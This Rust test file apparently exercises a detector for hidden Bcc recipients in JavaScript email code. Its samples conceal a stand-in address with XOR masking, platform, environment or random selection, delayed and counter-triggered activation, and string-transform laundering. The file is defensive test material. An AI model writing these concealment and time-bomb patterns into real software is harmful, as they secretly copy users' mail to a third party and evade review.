//! What is decoded that is one of several, or that only the graph knows.

use super::sends;

const BCC: &str = "role=bcc recipient=a@box.test";
/// `unmask('`Acny/udru', 1)` is `a@box.test`.
const UNMASK: &str = "function unmask(text, key) {\n\
    let out = ''; for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key); return out; }\n";
const HIDDEN: &str = "'`Acny/udru'";

#[track_caller]
fn hides(declared: &str, address: &str) {
    sends(
        &format!("{UNMASK}{declared}\nexport const send = async (To) => client.sendEmail({{ To, Bcc: {address} }});"),
        BCC,
    );
}

#[test]
fn each_of_several_texts_is_decoded() {
    hides("", &format!("unmask(process.platform === 'win32' ? '' : {HIDDEN}, 1)"));
    hides(&format!("let text = ''; if (process.env.BETA) text = {HIDDEN};"), "unmask(text, 1)");
    hides(&format!("const texts = {{ win32: 'x', linux: {HIDDEN} }};"), "unmask(texts[process.platform], 1)");
    hides(&format!("const texts = ['x', {HIDDEN}];"), "unmask(texts[Math.floor(Math.random() * texts.length)], 1)");
    hides(&format!("async function pick() {{ return Date.now() % 2 ? 'x' : {HIDDEN}; }}"), "unmask(await pick(), 1)");
    hides("const key = process.env.BETA ? 2 : 1;", &format!("unmask({HIDDEN}, key)"));
    hides("", &format!("unmask(process.env.COPY || {HIDDEN}, 1)"));
}

#[test]
fn methods_give_something_for_each_of_several_texts() {
    for address in [
        "('x' + text).slice(1)",
        "('~' + text).replace(/~/g, '')",
        "('<' + text + '>').match(/<(.*)>/)[1]",
        "text.split('').reverse().reverse().join('')",
        "[...text].reduce((all, letter) => all + letter, '')",
        "text.split('').map((letter) => String.fromCharCode(letter.charCodeAt(0))).join('')",
        "Buffer.from(Buffer.from(text).toString('hex'), 'hex').toString()",
        "JSON.parse('{\"k\":\"' + text + '\"}').k",
    ] {
        hides("let text = '<x>'; if (process.env.BETA) text = 'a@box.test';", address);
    }
}

#[test]
fn what_is_waited_for_is_decoded() {
    let bus = "const bus = new (require('events'))(); let text; bus.on('text', (it) => { text = it; });";
    hides(&format!("{bus} bus.emit('text', {HIDDEN});"), "unmask(text, 1)");
    hides(&format!("{bus} bus.emit('text', 'a@box.tested');"), "text.replace(/ed$/, '')");
}

#[test]
fn what_is_decoded_twice_is_found_out() {
    hides("", "unmask(unmask('a@box.test', 7), 7)");
    hides("const twice = (text) => unmask(unmask(text, 7), 7);", "twice('a@box.test')");
}

#[test]
fn what_is_remembered_may_change() {
    for (declared, text) in [
        (
            "let armed = false; export const arm = () => { armed = true; };".to_owned(),
            format!("(armed ? {HIDDEN} : '')"),
        ),
        ("let count = 0;".to_owned(), format!("(++count > 50 ? {HIDDEN} : '')")),
        (format!("let turn = 0; const turns = ['', {HIDDEN}];"), "turns[turn++ % 2]".to_owned()),
        (format!("let text = ''; export const arm = () => {{ text = {HIDDEN}; }};"), "text".to_owned()),
        (
            format!("const held = {{}}; export const arm = () => {{ held.text = {HIDDEN}; }};"),
            "(held.text || '')".to_owned(),
        ),
        (
            format!("const texts = ['']; export const arm = () => {{ texts.unshift({HIDDEN}); }};"),
            "texts[0]".to_owned(),
        ),
        (
            "const seen = []; export const arm = () => { seen.push(1); };".to_owned(),
            format!("(seen.length ? {HIDDEN} : '')"),
        ),
        ("const begun = Date.now();".to_owned(), format!("(Date.now() - begun > 9e7 ? {HIDDEN} : '')")),
    ] {
        hides(&declared, &format!("unmask({text}, 1)"));
    }
    // What is not hidden is not lost either, where the code beside it is run.
    let labelled = "const label = unmask('mbcdm', 1);";
    hides(&format!("{labelled} let text = ''; export const arm = () => {{ text = 'a@box.test'; }};"), "text");
    hides(&format!("{labelled} let turn = 0;"), "['', 'a@box.test'][turn++ % 2]");
}
